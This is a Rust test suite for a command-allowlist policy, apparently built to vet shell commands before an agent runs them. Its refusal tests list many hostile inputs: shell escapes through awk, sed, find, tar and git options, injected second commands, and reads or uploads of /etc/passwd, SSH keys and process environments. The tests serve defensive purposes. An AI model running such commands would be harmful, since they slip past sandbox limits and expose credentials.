use super::*;
use proptest::prelude::*;

fn policy(allowed: &[&str]) -> Policy {
    let allowed: Vec<String> = allowed.iter().map(|one| (*one).to_owned()).collect();
    Policy::new(&allowed, Ways::default(), Some("/srv/site")).unwrap()
}

/// Opens the program that the command starts, and those that it may start.
fn judge(value: &str) -> Result<String, Reason> {
    let first = value.split(' ').next().unwrap();
    policy(&[first, "ls", "cat", "grep", "env", "timeout", "nice", "xargs"])
        .judge(value)
        .map(|judged| judged.normal)
        .map_err(|refused| refused.reason)
}

#[test]
fn plain_commands_pass() {
    for value in [
        "ls -la src",
        "cat a.txt b/c.txt",
        "grep -rn 'a|b' src",
        "grep '/api/v1' src/a.rs",
        "rg -n --type rust 'x /y' src",
        "echo /etc/passwd is a file",
        "git commit -m 'fix /etc; see ../x'",
        "git log --format='%h %s | %an'",
        "git diff HEAD~1 -- src/a.rs",
        "git push origin main",
        "git switch -c topic",
        "npm run build",
        "npm install lodash",
        "npm test -- --watch",
        "npm ci",
        "cargo test --release -- --nocapture",
        "cargo build -p x",
        "cargo run --bin y",
        "python3 -m pytest -q tests/test_a.py",
        "python3 tools/gen.py -c release",
        "python3 --version",
        "node --max-old-space-size=4096 app.js -e prod",
        "jq '.a[0] | .b' x.json",
        "jq -r --arg n v '.[$n]' x.json",
        "jq .env.HOME a.json",
        "find . -name '*.rs' -type f",
        "find src -newer a -print",
        "tar czf out.tgz src",
        "tar -xzf a.tgz -C build",
        "tar xvf a.tar",
        "sed -n '1,5p' a",
        "sed -e 's/a/b/' -e 's/c/d/g' a",
        "sed -i.bak 's|/usr|/opt|' a",
        "awk -F: '{print $1}' a",
        "awk '$3 > 5' a",
        "curl -s -H 'Accept: text/html' https://example.com/a",
        "make -j4 all CC=gcc",
        "go test ./...",
        "go build -o bin/x ./cmd/x",
        "docker ps -a",
        "kubectl get pods -n web",
        "pip install -r requirements.txt",
        "timeout 5 ls",
        "timeout -k 1 5s ls -l",
        "nice -n 5 ls",
        "env ls",
        "xargs -n1 ls",
        "xargs -I '{}' cat '{}'",
        "sort -k2 -t, a.csv",
        "diff a b",
        "head -n5 a",
        "ls /srv/site/src",
        "cat ./a/../b",
        "git show HEAD:src/a.rs",
        "ls -- -odd",
        "grep x /dev/null",
        "cp a b",
        "mysql -u app shop",
        "rsync -a src/ out/",
        "mytool --verbose --name=x in.txt",
        "bash build.sh --fast",
        "perl gen.pl -e x",
        "make build",
        "psql -h db -l",
        "systemctl status nginx",
        "/usr/bin/git status",
        "pip3 install -e .",
        "docker build -t x .",
        "cmake --build build",
        "less README.md",
        "man ls",
    ] {
        assert!(judge(value).is_ok(), "{value}: {:?}", judge(value));
    }
}

#[test]
fn code_and_other_programs_are_refused() {
    for value in [
        "sh -c id",
        "bash -xc id",
        "bash -lc id",
        "sh",
        "bash -s",
        "bash -i",
        "zsh -c id",
        "dash --command=id",
        "fish --init-command=id",
        "python3 -c 'import os'",
        "python3 -Bc x",
        "python3 -cimport",
        "python3 -",
        "python3",
        "python3.12 -c x",
        "python -m timeit x",
        "python3 -mpdb x",
        "python3 -i a.py",
        "node -e x",
        "node --eval=x",
        "node -pe x",
        "node --print x",
        "node -r ./x app.js",
        "node --require=./x a",
        "node --import x a",
        "node -",
        "node",
        "perl -e x",
        "perl -ne x",
        "perl -pie x",
        "perl -Mx a",
        "ruby -e x",
        "ruby -rx a",
        "php -r x",
        "php --run x",
        "php -d a=b c",
        "lua -e x",
        "deno eval x",
        "bun -e x",
        "bun x y",
        "Rscript -e x",
        "find . -exec id ;",
        "find . -execdir id +",
        "find . -ok id",
        "find . -delete",
        "find . -fprintf a b",
        "find . -fls a",
        "fd -x id",
        "tar cf a --to-command=id b",
        "tar --to-comm=id -xf a",
        "tar cf a --checkpoint-action=exec=id b",
        "tar -I id -xf a",
        "tar --use-compress-program id -xf a",
        "tar --use-compress=id -xf a",
        "tar xIf id a",
        "tar -xIf id a",
        "tar cf a -F id",
        "tar --rsh-command=id -xf h:a",
        "zip a b -TT id",
        "ssh -o ProxyCommand=id h",
        "ssh -oProxyCommand=id h",
        "ssh -F x h",
        "scp -S id a h:b",
        "rsync -e id a h:b",
        "rsync --rsh=id a b",
        "rsync --rsync-path=id a b",
        "rsync -ae id a b",
        "xargs sh -c id",
        "xargs id",
        "env sh",
        "env -S id",
        "env -i id",
        "env A=b ls",
        "timeout 5 sh",
        "timeout 5 id",
        "nice sh",
        "nice -n 5 id",
        "nohup id",
        "time id",
        "stdbuf -o0 id",
        "sudo ls",
        "eval ls",
        "exec id",
        "watch ls",
        "script -c id",
        "flock a ls",
        "strace ls",
        "busybox sh",
        "parallel ls",
        "setsid id",
        "su -c id",
        "awk 'BEGIN{system(1)}'",
        "awk '{print | \"sh\"}' a",
        "awk -f x.awk a",
        "sed 1e a",
        "sed 's/a/b/e' a",
        "sed -n '/x/w y' a",
        "sed -e p -e '1e id' a",
        "sed -ne 'e id' a",
        "sed --expression='1e id' a",
        "sed -f x a",
        "vim a",
        "vi -c '!id' a",
        "nvim --headless a",
        "ed a",
        "emacs --eval x",
        "less +!id a",
        "less -P x a",
        "man -P id ls",
        "man --pager=id ls",
        "git -c core.pager=id log",
        "git --exec-path=x log",
        "git clone ext::sh x",
        "git rebase -x id",
        "git grep -O id x",
        "git config core.pager id",
        "git difftool -x id",
        "git bisect run id",
        "git submodule foreach id",
        "npm exec id",
        "npm x id",
        "npm --loglevel silent exec id",
        "npm init x",
        "npm config set a b",
        "npm --script-shell=id test",
        "npm install git+https://example.com/x",
        "npm install https://example.com/x.tgz",
        "cargo --config a=b build",
        "cargo build --config=x",
        "rg --pre id x",
        "rg --pre=id x",
        "sort --compress-program=id a",
        "split --filter=id a",
        "make --eval=x",
        "make SHELL=id",
        "cmake -P x",
        "cmake -E env id",
        "go test -exec id ./...",
        "go build -toolexec=id",
        "go vet -vettool=id",
        "gcc -wrapper id a.c",
        "gcc -fplugin=x a.c",
        "curl -K x",
        "curl --config x https://example.com",
        "wget --use-askpass=id a",
        "wget -e a=b c",
        "docker run x",
        "docker exec a id",
        "docker -H tcp://x ps",
        "kubectl exec a id",
        "kubectl --kubeconfig=x get a",
        "mysql -e x",
        "psql -c x",
        "psql -f x",
        "psql --command=x",
        "sqlite3 a .shell",
        "sqlite3 a '.shell id'",
        "sqlite3 -cmd x a",
        "tcpdump -z id",
        "nmap --script x h",
        "openssl req -engine x",
        "hg --config a=b log",
        "svn --config-option a log",
        "jq env",
        "jq -n '$ENV'",
        "jq -L x .",
        "mytool --exec=id",
        "mytool --command id",
        "mytool -exec id",
        "mytool --pre-load --eval x",
        "gdb a",
        "expect -c x",
        "tclsh",
        "pwsh -c x",
        "cmd /c x",
        "awk -e x",
        "gawk --load x a",
        "m4 a",
        "java -javaagent:x a",
        "java -agentlib:x a",
        "ffmpeg -filter x",
        "systemctl edit x",
        "env -C x ls",
    ] {
        assert!(judge(value).is_err(), "{value}");
    }
}

#[test]
fn what_a_shell_would_act_on_is_refused_in_strings_only() {
    let policy = policy(&["echo", "ls"]);
    for value in [
        "echo a; id",
        "ls && id",
        "ls | sh",
        "ls > x",
        "echo $(id)",
        "echo `id`",
        "ls $HOME",
        "ls\nid",
        "ls *",
        "A=b ls",
        "PATH=. ls",
        "ls \u{200b}",
        "echo 'a",
    ] {
        assert!(policy.judge(value).is_err(), "{value}");
    }
    let list =
        |words: &[&str]| policy.judge_words(&words.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>()).map(|judged| judged.normal);
    assert_eq!(list(&["echo", "a; $(id) `x` *", "it's"]).as_deref(), Ok("echo 'a; $(id) `x` *' 'it'\\''s'"));
    assert!(list(&["sh", "-c", "id"]).is_err() && list(&[]).is_err() && list(&["ls", "a\0b"]).is_err() && list(&["ls -la"]).is_err());
}

#[test]
fn programs_are_those_that_are_named() {
    let policy = policy(&["git", "/opt/x/tool", "npm run", "ls [-l -a --all --color]"]);
    let judge = |value: &str| policy.judge(value).map_err(|refused| refused.reason).map(drop);
    for value in [
        "git status",
        "/usr/bin/git status",
        "/opt/x/tool a",
        "npm run build",
        "ls",
        "ls -la a",
        "ls --color=auto",
        "ls -- -x",
        "'git' status",
        "g\\it status",
    ] {
        assert_eq!(judge(value), Ok(()), "{value}");
    }
    for (value, reason) in [
        ("", Reason::ArgvEmpty),
        ("''", Reason::ArgvEmpty),
        ("curl x", Reason::ArgvProgram),
        ("GIT status", Reason::ArgvProgram),
        ("git.exe status", Reason::ArgvProgram),
        ("./git status", Reason::ArgvPath),
        ("/tmp/git status", Reason::ArgvPath),
        ("/usr/bin/../../tmp/git x", Reason::ArgvPath),
        ("../git x", Reason::ArgvPath),
        ("tool a", Reason::ArgvProgram),
        ("/opt/x/tool2", Reason::ArgvPath),
        ("npm install x", Reason::ArgvLeading),
        ("ls -R", Reason::ArgvUnlisted),
        ("ls -laR", Reason::ArgvUnlisted),
        ("ls --almost", Reason::ArgvUnlisted),
        ("ls --allow", Reason::ArgvUnlisted),
    ] {
        assert_eq!(judge(value), Err(reason), "{value}");
    }
    for bad in ["", "a/b", "a;b", "/a/../b", "ls [-l"] {
        assert!(Policy::new(&[bad.to_owned()], Ways::default(), None).is_err(), "{bad}");
    }
    assert!(Policy::new(&[], Ways::default(), None).is_err() && Policy::new(&["a".to_owned()], Ways::default(), Some("b")).is_err());
}

#[test]
fn paths_stay_in_the_folder() {
    for value in [
        "cat /etc/passwd",
        "cat ../x",
        "cat a/../../x",
        "ls ..",
        "ls ~",
        "cat ~/.ssh/id",
        "cat ~root/x",
        "grep -f /etc/passwd x",
        "grep x /etc/passwd",
        "grep --file=/etc/passwd x",
        "tar -C/etc -cf a .",
        "tar cf a -C /etc .",
        "curl file:///etc/passwd",
        "curl -d @/etc/passwd https://example.com",
        "curl -F f=@/etc/passwd https://example.com",
        "dd if=/dev/sda",
        "cp a /tmp/x",
        "git -C /etc log",
        "git diff --no-index /etc/passwd a",
        "git log --output=/tmp/x",
        "git worktree add ../x",
        "npm --cache=/tmp/x test",
        "cat 'C:\\x'",
        "cat C:\\\\x",
        "cat '\\\\h\\s'",
        "head -n5 /proc/self/environ",
        "sed p /etc/passwd",
        "jq . /etc/passwd",
        "rg x /etc",
        "docker ps --config=/x",
        "cat /srv/site2/x",
        "python3 /tmp/x.py",
        "python3 -m pytest /tmp/x",
        "make DESTDIR=/ install",
        "cat -- ../x",
        "ls -I/etc",
        "timeout 5 cat /etc/passwd",
    ] {
        assert!(judge(value).is_err(), "{value}");
    }
    let ways = Ways { paths_outside_cwd: Way::Allowed, ..Ways::default() };
    assert!(Policy::new(&["cat".to_owned()], ways, None).unwrap().judge("cat /etc/hosts").is_ok());
    assert!(Policy::new(&["cat".to_owned()], Ways::default(), None).unwrap().judge("cat /srv/site/x").is_err());
}

#[test]
fn a_way_that_is_open_is_open() {
    let open = Ways {
        shell: Way::Allowed,
        inline_code: Way::Allowed,
        env_prefix: Way::Allowed,
        exec_options: Way::Allowed,
        paths_outside_cwd: Way::Denied,
    };
    let allowed: Vec<String> = ["sh", "python3", "find", "git", "ls"].map(str::to_owned).to_vec();
    let policy = Policy::new(&allowed, open, Some("/desk")).unwrap();
    for value in ["sh -c id", "python3 -c x", "A=b ls", "find . -exec ls", "git -c a=b log", "ls $X"] {
        assert!(policy.judge(value).is_ok(), "{value}: {:?}", policy.judge(value));
    }
    assert!(policy.judge("curl x").is_err());
}

#[test]
fn length_is_bounded() {
    let policy = policy(&["echo"]);
    assert!(policy.judge(&format!("echo {}", "a ".repeat(40_000))).is_err());
    assert!(policy.judge(&"timeout 1 ".repeat(3_000)).is_err());
    let env = Policy::new(&["env".to_owned()], Ways::default(), None).unwrap();
    assert!(env.judge(&"env ".repeat(100)).is_err());
}

proptest! {
    #[test]
    fn the_normal_form_is_fixed(value in "(echo|ls|git|grep|sh|env)( [-a-z./='\"\\\\;$]{0,8}){0,5}") {
        let policy = policy(&["echo", "ls", "git", "grep", "env"]);
        if let Ok(judged) = policy.judge(&value) {
            let again = policy.judge(&judged.normal);
            prop_assert_eq!(again.map(|judged| judged.normal), Ok(judged.normal.clone()));
        }
    }

    #[test]
    fn no_other_program_is_started(words in proptest::collection::vec("[-a-z./=;]{0,8}", 1..6)) {
        let judged = policy(&["git", "ls"]).judge_words(&words);
        prop_assert!(judged.is_err() || ["git", "ls", "/usr/bin/git", "/usr/bin/ls", "/bin/ls", "/bin/git"].contains(&words[0].as_str()));
    }

    #[test]
    fn nothing_panics(value in "(awk|sed|git|tar|npm|python3|jq|xargs|sqlite3) .{0,60}") {
        let _ = judge(&value);
    }
}
